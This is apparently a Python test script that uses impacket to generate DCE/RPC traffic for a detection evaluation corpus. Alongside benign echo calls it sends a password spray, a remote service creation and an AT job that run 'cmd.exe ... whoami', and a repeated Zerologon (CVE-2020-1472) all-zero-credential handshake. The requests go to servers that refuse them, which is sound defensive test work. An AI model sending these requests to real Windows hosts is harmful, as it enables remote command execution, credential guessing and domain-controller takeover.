"""impacket sessions for the evaluation corpus, run inside a namespace (our venv's interpreter).

    python -m tests.evaluation.impacket_runs levels HOST PORT DOMAIN USER PASSWORD
    python -m tests.evaluation.impacket_runs spray HOST PORT DOMAIN PASSWORD IFACE USER...
    python -m tests.evaluation.impacket_runs svcctl|atsvc|zerologon HOST PORT

``levels``: rpcecho AddOne at every NTLM auth level (none, connect, packet, integrity, privacy),
one connection each (benign). ``spray``: one NTLM bind per user with the same password (the
servers refuse the wrong ones). ``svcctl``: RCreateServiceW (opnum 12), ``atsvc``: NetrJobAdd
(opnum 0), ``zerologon``: NetrServerReqChallenge and NetrServerAuthenticate3 with an all-zero
client credential, repeated (CVE-2020-1472's shape). These three go to a server that does not
serve the interface: the bind is refused and the request is sent on the refused context anyway,
so it is on the wire (impacket's own request structures; the server faults or hangs up).
"""

from __future__ import annotations

import contextlib
import struct
import sys
from collections.abc import Callable
from typing import Any

from impacket.dcerpc.v5 import atsvc as at
from impacket.dcerpc.v5 import epm, nrpc, rpcrt, scmr, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.uuid import uuidtup_to_bin

RPCECHO = ("60a15ec5-4de8-11d7-a637-005056a20182", "1.0")
LEVELS = (
    rpcrt.RPC_C_AUTHN_LEVEL_NONE,
    rpcrt.RPC_C_AUTHN_LEVEL_CONNECT,
    rpcrt.RPC_C_AUTHN_LEVEL_PKT,
    rpcrt.RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
)


def _dce(host: str, port: int, user: str = "", password: str = "", domain: str = "", level: int = 0) -> Any:
    rpc = transport.DCERPCTransportFactory(f"ncacn_ip_tcp:{host}[{port}]")
    rpc.set_connect_timeout(10)  # also each read's: a server that says nothing does not hang us
    if user:
        rpc.set_credentials(user, password, domain)
    dce = rpc.get_dce_rpc()
    if level:
        dce.set_auth_level(level)
    dce.connect()
    return dce


def levels(host: str, port: int, domain: str, user: str, password: str) -> None:
    """rpcecho's port is looked up in the endpoint mapper on 135 first, as a client would (PORT unused)."""
    binding = epm.hept_map(host, uuidtup_to_bin(RPCECHO), protocol="ncacn_ip_tcp")  # on 135
    port = int(binding.split("[")[1].rstrip("]"))
    for level in LEVELS:
        dce = _dce(host, port, user if level > 1 else "", password, domain, level if level > 1 else 0)
        dce.bind(uuidtup_to_bin(RPCECHO))
        for n in (1, 2):
            dce.call(0, struct.pack("<I", n))
            assert dce.recv() == struct.pack("<I", n + 1)
        dce.disconnect()


def spray(host: str, port: int, domain: str, password: str, iface: str, *users: str) -> None:
    for user in users:
        dce = _dce(host, port, user, password, domain, rpcrt.RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)
        try:
            dce.bind(uuidtup_to_bin((iface, "0.0" if iface != RPCECHO[0] else "1.0")))
            dce.call(0, struct.pack("<I", 1))
            dce.recv()
        except Exception:  # refused: that is the point
            pass
        dce.disconnect()


def _anyway(host: str, port: int, iface: bytes, requests: list[Any]) -> None:
    """Bind (refused or not), then send each request on context 0 and read what comes back; when
    the server hangs up (it may, after a request on a refused context), again on a new connection."""
    dce = None
    for req in requests:
        if dce is None:
            dce = _dce(host, port)
            with contextlib.suppress(Exception):
                dce.bind(iface)
            dce.set_max_tfrag(4280)  # a refused bind leaves impacket's fragment size 0 (it would loop)
        try:
            dce.request(req)
        except Exception as e:  # a fault, a refusal, a hang-up
            if "closed" in str(e).lower() or isinstance(e, OSError):
                dce = None
    if dce is not None:
        dce.disconnect()


def svcctl(host: str, port: int) -> None:
    req = scmr.RCreateServiceW()
    req["hSCManager"] = b"\0" * 20
    req["lpServiceName"] = "evil\x00"
    req["lpDisplayName"] = "evil\x00"
    req["dwDesiredAccess"] = scmr.SERVICE_ALL_ACCESS
    req["dwServiceType"] = scmr.SERVICE_WIN32_OWN_PROCESS
    req["dwStartType"] = scmr.SERVICE_DEMAND_START
    req["dwErrorControl"] = scmr.SERVICE_ERROR_IGNORE
    req["lpBinaryPathName"] = "%COMSPEC% /Q /c echo whoami > C:\\x.txt\x00"
    req["lpLoadOrderGroup"] = NULL
    req["lpDependencies"] = NULL
    req["dwDependSize"] = 0
    req["lpServiceStartName"] = NULL
    req["lpPassword"] = NULL
    req["dwPwSize"] = 0
    _anyway(host, port, scmr.MSRPC_UUID_SCMR, [req])


def atsvc(host: str, port: int) -> None:
    req = at.NetrJobAdd()
    req["ServerName"] = NULL
    info = req["pAtInfo"]
    info["JobTime"] = 0
    info["DaysOfMonth"] = 0
    info["DaysOfWeek"] = 0
    info["Flags"] = 0
    info["Command"] = "cmd.exe /c whoami\x00"
    _anyway(host, port, at.MSRPC_UUID_ATSVC, [req])


def zerologon(host: str, port: int, attempts: int = 16) -> None:
    reqs: list[Any] = []
    for _ in range(attempts):
        ch = nrpc.NetrServerReqChallenge()
        ch["PrimaryName"] = "\\\\DC\x00"
        ch["ComputerName"] = "DC\x00"
        ch["ClientChallenge"] = b"\0" * 8
        au = nrpc.NetrServerAuthenticate3()
        au["PrimaryName"] = "\\\\DC\x00"
        au["AccountName"] = "DC$\x00"
        au["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
        au["ComputerName"] = "DC\x00"
        au["ClientCredential"] = b"\0" * 8
        au["NegotiateFlags"] = 0x212FFFFF
        reqs += [ch, au]
    _anyway(host, port, nrpc.MSRPC_UUID_NRPC, reqs)


COMMANDS: dict[str, Callable[..., None]] = {
    "levels": levels,
    "spray": spray,
    "svcctl": svcctl,
    "atsvc": atsvc,
    "zerologon": zerologon,
}

if __name__ == "__main__":
    what, host, port, *rest = sys.argv[1:]
    COMMANDS[what](host, int(port), *rest)
